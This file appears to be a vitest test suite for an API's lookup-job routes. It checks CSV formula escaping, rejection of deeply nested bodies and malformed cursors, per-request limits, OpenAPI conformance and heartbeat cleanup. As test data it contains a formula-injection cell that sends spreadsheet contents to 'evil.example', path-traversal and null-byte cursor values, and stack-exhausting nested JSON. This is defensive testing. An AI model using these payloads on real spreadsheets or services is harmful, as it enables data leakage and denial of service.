// Lookup jobs' faces under a hostile review: the answers a careful client or an attacker gets at the edges.
// CSV results escape spreadsheet formulas; a bodiless DELETE sent with content-type: application/json
// cancels; a body nested thousands deep is bad_body, not a 500; a byte-order mark opens a JSON or NDJSON
// body as it may a CSV one; a list cursor not of a job id's form is bad_param (REST and GraphQL), not an
// empty page that reads as the end; a bad page argument inside createLookupJob's
// selection keeps the made job's id (else a retry makes a second job); a results cursor past the job's
// items is bad_param; one request's results fields take at most 500 results together, and queues at most
// 10,000 job items together. Every job route's live answer fits /openapi.json; an idle event stream
// beats, and its timer goes with the client.
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parseCsvRows } from '../../src/contract/job-input.js';
import { JOB_CSV_COLUMNS } from '../../src/contract/jobs.js';
import { startReplayServer } from '../../src/replay/server.js';
import { csvRow, HEARTBEAT_MS } from '../../src/rest/routes/jobs.js';
import { startGatedProxy, type GatedProxy } from '../helpers/gated-proxy.js';
import { postGql } from '../graphql/client.js';
import { DEFAULT_ACCOUNTS, startTestService, type TestService } from '../helpers/service.js';

const JOBS = '/v1/portal/jobs';

describe('CSV results and spreadsheet formulas', () => {
  it("a text cell starting with = + - @ tab or CR gets a leading '; numbers (a negative longitude) stay as they are", () => {
    const data = {
      zpid: '1',
      address: '=HYPERLINK("http://evil.example/?x="&A1,"home")',
      streetAddress: '+1 Main St',
      city: '-2+3',
      county: '@SUM(A1)',
      neighborhood: '\t=1',
      longitude: -122.41,
      latitude: 37.7,
    };
    const line = JSON.stringify({ index: 0, ok: true, data, meta: { credits: 1, cached: false } });
    const [row] = parseCsvRows(csvRow(line));
    const cell = (name: string) => row![JOB_CSV_COLUMNS.indexOf(name)];
    expect(cell('address')).toBe(`'${data.address}`);
    expect(cell('streetAddress')).toBe("'+1 Main St");
    expect(cell('city')).toBe("'-2+3");
    expect(cell('county')).toBe("'@SUM(A1)");
    expect(cell('neighborhood')).toBe("'\t=1");
    expect(cell('longitude')).toBe('-122.41');
    expect(cell('zpid')).toBe('1');
    // An error's message is text too.
    const [failed] = parseCsvRows(
      csvRow(JSON.stringify({ index: 1, ok: false, error: { code: 'bad_param', message: '=cmd' } })),
    );
    expect(failed![JOB_CSV_COLUMNS.indexOf('error_message')]).toBe("'=cmd");
  });
});

describe('job routes at the edges', () => {
  let svc: TestService;
  beforeAll(async () => {
    // `bulk`: the key of the test that queues 12,000 items, so they use neither the free key's rate window
    // nor the queue ahead of the other tests' jobs (the OpenAPI check reads a job's events, which end only
    // once its job is final: behind the free key's spent window, that was up to a minute).
    svc = await startTestService({
      accounts: { ...DEFAULT_ACCOUNTS, bulk: { key: 'test_bulk_key_0001', plan: 'free', allotment: 50 } },
    });
    await svc.app.background.startWorkers();
  });
  afterAll(() => svc?.close());

  const send = async (method: string, path: string, opts: { key?: string; body?: string; type?: string } = {}) => {
    const res = await svc.fetch(svc.url + path, {
      method,
      headers: { 'x-api-key': opts.key ?? svc.keys.free!, ...(opts.type ? { 'content-type': opts.type } : {}) },
      ...(opts.body === undefined ? {} : { body: opts.body }),
    });
    return { status: res.status, body: (await res.json()) as any };
  };
  const create = async (key?: string) =>
    (
      await send('POST', JOBS, {
        body: JSON.stringify({ items: [{ zpid: '114303858' }] }),
        type: 'application/json',
        ...(key ? { key } : {}),
      })
    ).body.data.id as string;

  it('DELETE sent with content-type: application/json and no body cancels (clients that set it on every request)', async () => {
    const id = await create();
    const r = await send('DELETE', `${JOBS}/${id}`, { type: 'application/json' });
    expect(r.status).toBe(200);
    expect(r.body.data.id).toBe(id);
    expect((await send('DELETE', `${JOBS}/nope`, { type: 'application/json' })).body.error.code).toBe('not_found');
  });

  it('a JSON or NDJSON body that starts with a byte-order mark (PowerShell, Excel) is read as without it', async () => {
    for (const [type, body] of [
      ['application/json', '\ufeff{"items":[{"zpid":"114303858"}]}'],
      ['application/x-ndjson', '\ufeff{"zpid":"114303858"}\n"1"\n'],
    ]) {
      const r = await send('POST', JOBS, { type, body });
      expect(r.status, type).toBe(202);
    }
  });

  it('a CSV saved with semicolons or tabs (a European spreadsheet locale) is bad_body saying so', async () => {
    for (const [body, word] of [
      ['zpid;name\r\n114303858;a\r\n', 'semicolons'],
      ['address\tname\n1 Main St\tb\n', 'tabs'],
    ]) {
      const r = await send('POST', JOBS, { type: 'text/csv', body });
      expect(r.status).toBe(400);
      expect(r.body.error.code).toBe('bad_body');
      expect(r.body.error.message).toContain(`separated by ${word}: send comma-separated values`);
    }
  });

  it('a body nested thousands deep is 400 bad_body, never a 500 (storing it, or an Idempotency-Key identity, overflowed the stack)', async () => {
    const d = 10_000;
    const bodies: Array<[string, string, Record<string, string>]> = [
      [
        'application/json',
        `{"items":[${'{"a":'.repeat(d)}1${'}'.repeat(d)}]}`,
        { 'idempotency-key': `deep-${Date.now()}` },
      ],
      ['application/json', `{"items":["1",${'['.repeat(d)}${']'.repeat(d)}]}`, {}],
      ['application/x-ndjson', `"1"\n${'['.repeat(d)}${']'.repeat(d)}\n`, {}],
    ];
    const before = (await send('GET', `${JOBS}?limit=100`)).body.data.length;
    for (const [type, body, headers] of bodies) {
      const res = await svc.fetch(svc.url + JOBS, {
        method: 'POST',
        headers: { 'x-api-key': svc.keys.free!, 'content-type': type, ...headers },
        body,
      });
      expect(res.status, type).toBe(400);
      expect(((await res.json()) as any).error).toMatchObject({
        code: 'bad_body',
        details: { reason: expect.stringContaining('nests deeper than 8 levels') },
      });
    }
    // A bad item within the depth is still its own result.
    expect(
      (await send('POST', JOBS, { type: 'application/json', body: '{"items":[{"zpid":{"a":[1]}}]}' })).status,
    ).toBe(202);
    expect((await send('GET', `${JOBS}?limit=100`)).body.data.length).toBe(before + 1);
  });

  it('with an Idempotency-Key, a batch or GraphQL body nested thousands deep is 400 bad_body, not a 500', async () => {
    const deep = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    const post = (path: string, body: string) =>
      svc.fetch(svc.url + path, {
        method: 'POST',
        headers: {
          'x-api-key': svc.keys.free!,
          'content-type': 'application/json',
          'idempotency-key': `deep-${Math.random()}`,
        },
        body,
      });
    const batch = await post('/v1/portal/batch', `{"items":[${deep}]}`);
    expect(batch.status).toBe(400);
    expect(((await batch.json()) as any).error.code).toBe('bad_body');
    const graph = await post('/graphql', `{"query":"{ account { plan } }","extensions":${deep}}`);
    expect(graph.status).toBe(400);
    expect(((await graph.json()) as any).errors[0].extensions.code).toBe('bad_body');
  });

  it("a list cursor not of a job id's form is 400 bad_param, over REST and GraphQL; another account's id is an empty page, as an expired one", async () => {
    const mine = await create();
    await create();
    const theirs = await create(svc.keys.paid!);
    for (const cursor of ['nope', '%00', '..%2Fjob_1', '', `job_${'a'.repeat(65)}`]) {
      const r = await send('GET', `${JOBS}?cursor=${cursor}`);
      expect(r.status, cursor).toBe(400);
      expect(r.body.error).toMatchObject({ code: 'bad_param', details: { param: 'cursor' } });
    }
    for (const after of ['nope', '']) {
      const r = await postGql(svc, {
        query: 'query($after: String) { jobs(after: $after) { endCursor } }',
        variables: { after },
      });
      expect(r.body.errors[0].extensions, after).toMatchObject({ code: 'bad_param', details: { param: 'after' } });
    }
    // Another account's job, like one expired since its page was read: nothing of it shows.
    expect((await send('GET', `${JOBS}?cursor=${theirs}`)).body).toMatchObject({
      data: [],
      meta: { next_cursor: null },
    });
    const first = await send('GET', `${JOBS}?limit=1`);
    expect(first.body.meta.next_cursor).not.toBeNull();
    const next = await send('GET', `${JOBS}?limit=1&cursor=${first.body.meta.next_cursor}`);
    expect(next.status).toBe(200);
    expect(next.body.data[0].id).toBe(mine);
  });

  it("a bad page argument in createLookupJob's selection: the error, and the job's id (results null)", async () => {
    const before = (await send('GET', `${JOBS}?limit=100`)).body.data.length;
    const r = await postGql(svc, {
      query:
        'mutation { createLookupJob(items: [{ zpid: "114303858" }]) { id count results(first: 0) { endCursor } } }',
    });
    expect(r.body.errors[0].extensions).toMatchObject({ code: 'bad_param', details: { param: 'first' } });
    expect(r.body.data.createLookupJob).toMatchObject({ id: expect.stringMatching(/^job_/), count: 1, results: null });
    const list = (await send('GET', `${JOBS}?limit=100`)).body.data;
    expect(list.length).toBe(before + 1);
    expect(list[0].id).toBe(r.body.data.createLookupJob.id);
  });

  it('results across one request are at most 500: jobs { results } over many jobs cannot build an answer of tens of thousands', async () => {
    const ids = [await create(), await create(), await create()];
    const r = await postGql(svc, { query: '{ jobs(first: 3) { jobs { id results(first: 250) { endCursor } } } }' });
    const pages = r.body.data.jobs.jobs.map((j: any) => j.results);
    expect(pages.filter((p: any) => p !== null)).toHaveLength(2);
    expect(r.body.errors).toHaveLength(1);
    expect(r.body.errors[0].extensions).toMatchObject({ code: 'bad_param', details: { param: 'first' } });
    // Within the budget, every page is served.
    const ok = await postGql(svc, {
      query:
        'query($a: ID!, $b: ID!) { a: job(id: $a) { results(first: 250) { endCursor } } b: job(id: $b) { results(first: 250) { endCursor } } }',
      variables: { a: ids[0], b: ids[1] },
    });
    expect(ok.body.errors).toBeUndefined();
  });

  it('one request queues at most 10,000 job items across its createLookupJob fields (aliases, batched operations), as one REST POST', async () => {
    const items = Array.from({ length: 6000 }, () => ({ zpid: '1' }));
    const key = svc.keys.bulk!;
    const create =
      'mutation($items: [LookupItem!]!) { a: createLookupJob(items: $items) { id } b: createLookupJob(items: $items) { id } }';
    const r = await postGql(svc, { query: create, variables: { items } }, { key });
    expect(r.body.data.a.id).toMatch(/^job_/);
    expect(r.body.data.b).toBeNull();
    expect(r.body.errors[0]).toMatchObject({
      path: ['b'],
      extensions: { code: 'too_many_items', details: { max: 10_000, received: 12_000 } },
    });
    const one = 'mutation($items: [LookupItem!]!) { createLookupJob(items: $items) { id } }';
    const batched = await postGql(
      svc,
      [
        { query: one, variables: { items } },
        { query: one, variables: { items } },
      ],
      { key },
    );
    expect(batched.body.map((b: any) => b.errors?.[0]?.extensions.code ?? 'ok')).toEqual(['ok', 'too_many_items']);
    // The two jobs made are not left queued ahead of the next tests' jobs.
    for (const id of [r.body.data.a.id, batched.body[0].data.createLookupJob.id])
      expect((await send('DELETE', `${JOBS}/${id}`, { key })).status).toBe(200);
  });

  it("a results cursor past the job's last item is bad_param; the last item's index is a cursor (an empty last page)", async () => {
    const id = await create();
    const page = (after: string) =>
      postGql(svc, {
        query: 'query($id: ID!, $after: String) { job(id: $id) { results(after: $after) { endCursor hasNextPage } } }',
        variables: { id, after },
      });
    for (const after of ['1', '999999999']) {
      const r = await page(after);
      expect(r.body.errors[0].extensions, after).toMatchObject({ code: 'bad_param', details: { param: 'after' } });
    }
    const last = await page('0');
    expect(last.body.errors).toBeUndefined();
    expect(last.body.data.job.results).toEqual({ endCursor: '0', hasNextPage: false });
  });

  it('the live answers of every job route fit /openapi.json: a declared status, its media type, its JSON schema', async () => {
    const doc = (await (await svc.fetch(`${svc.url}/openapi.json`)).json()) as any;
    const ajv = new Ajv2020({ strict: false, validateFormats: false });
    ajv.addSchema({ $id: 'doc', components: doc.components });
    const resolved = (r: any): any =>
      r.$ref ? doc.components.responses[r.$ref.replace('#/components/responses/', '')] : r;
    const check = async (
      method: string,
      path: string,
      template: string,
      init: { body?: string; type?: string; key?: string } = {},
    ) => {
      const res = await svc.fetch(svc.url + path, {
        method,
        headers: { 'x-api-key': init.key ?? svc.keys.free!, ...(init.type ? { 'content-type': init.type } : {}) },
        ...(init.body === undefined ? {} : { body: init.body }),
      });
      const where = `${method} ${path} ${res.status}`;
      const declared = doc.paths[template][method.toLowerCase()].responses;
      expect(Object.keys(declared), `${where}: status not declared`).toContain(String(res.status));
      const response = resolved(declared[String(res.status)]);
      const type = (res.headers.get('content-type') ?? '').split(';')[0]!;
      expect(Object.keys(response.content ?? {}), `${where}: ${type} not declared`).toContain(type);
      const media = response.content[type];
      const text = await res.text();
      if (type === 'application/json') {
        const validate = ajv.compile(
          JSON.parse(JSON.stringify(media.schema).replaceAll('"#/components/', '"doc#/components/')),
        );
        expect(validate(JSON.parse(text)), `${where}: ${JSON.stringify(validate.errors)}`).toBe(true);
      }
      return text;
    };
    const job = JSON.parse(
      await check('POST', JOBS, JOBS, {
        body: JSON.stringify({ items: [{ zpid: '114303858' }, 'x'] }),
        type: 'application/json',
      }),
    ).data.id;
    const one = `${JOBS}/{id}`;
    for (const [body, type] of [
      ['{"items":[]}', 'application/json'],
      ['zpid\n', 'text/csv'],
      ['x', 'text/plain'],
      ['{"items":[1],"webhook_url":"ftp://x"}', 'application/json'],
    ] as const) {
      await check('POST', JOBS, JOBS, { body, type });
    }
    await check('POST', JOBS, JOBS, {
      body: JSON.stringify({ items: Array.from({ length: 10_001 }, () => '1') }),
      type: 'application/json',
    });
    for (const q of ['', '?limit=1', '?limit=0', '?cursor=nope']) await check('GET', JOBS + q, JOBS);
    for (const id of [job, 'nope']) {
      await check('GET', `${JOBS}/${id}`, one);
      await check('GET', `${JOBS}/${id}/results`, `${one}/results`);
      await check('GET', `${JOBS}/${id}/results?format=csv`, `${one}/results`);
      await check('GET', `${JOBS}/${id}/events`, `${one}/events`);
    }
    await check('GET', `${JOBS}/${job}/results?format=xml`, `${one}/results`);
    await check('GET', `${JOBS}/${job}`, one, { key: 'not_a_key' });
    await check('DELETE', `${JOBS}/${job}`, one);
    await check('DELETE', `${JOBS}/nope`, one);
  });
});

describe('job events: heartbeats, and a client that leaves', () => {
  let svc: TestService;
  let proxy: GatedProxy;
  let site: Awaited<ReturnType<typeof startReplayServer>>;
  beforeAll(async () => {
    site = await startReplayServer({ host: '127.0.0.1', port: 0 });
    proxy = await startGatedProxy(site.origin, { open: true });
    svc = await startTestService({ socket: 'streaming', replayServer: site, env: { PORTAL_ORIGIN: proxy.origin } });
  });
  afterAll(async () => {
    await svc?.close();
    await proxy?.close();
    await site?.close();
  });

  it("an idle stream sends a heartbeat comment at each beat; the client gone, the beat's timer is cleared", async () => {
    const release = proxy.hold('2146993218');
    const setSpy = vi.spyOn(globalThis, 'setInterval');
    const clearSpy = vi.spyOn(globalThis, 'clearInterval');
    try {
      const id = (await svc.post(JOBS, { items: [{ zpid: '2146993218' }] })).body.data.id;
      await proxy.received('2146993218');
      const leaving = new AbortController();
      const res = await fetch(`${svc.url}${JOBS}/${id}/events`, {
        headers: { 'x-api-key': svc.keys.free! },
        signal: leaving.signal,
      });
      const reader = res.body!.getReader();
      const next = async () => new TextDecoder().decode((await reader.read()).value);
      expect(await next()).toMatch(/^event: progress\n/);
      // The stream's beat, called as its timer would call it (no waiting 15 s).
      const beat = setSpy.mock.calls.findLast(([, ms]) => ms === HEARTBEAT_MS);
      expect(typeof beat?.[0], 'the stream set a timer at HEARTBEAT_MS').toBe('function');
      (beat![0] as () => void)();
      expect(await next()).toBe(': heartbeat\n\n');
      const timer = setSpy.mock.results[setSpy.mock.calls.lastIndexOf(beat!)]!.value;
      leaving.abort();
      await vi.waitFor(() => expect(clearSpy.mock.calls.some(([t]) => t === timer)).toBe(true), { timeout: 10_000 });
    } finally {
      setSpy.mockRestore();
      clearSpy.mockRestore();
      release();
    }
  });
});
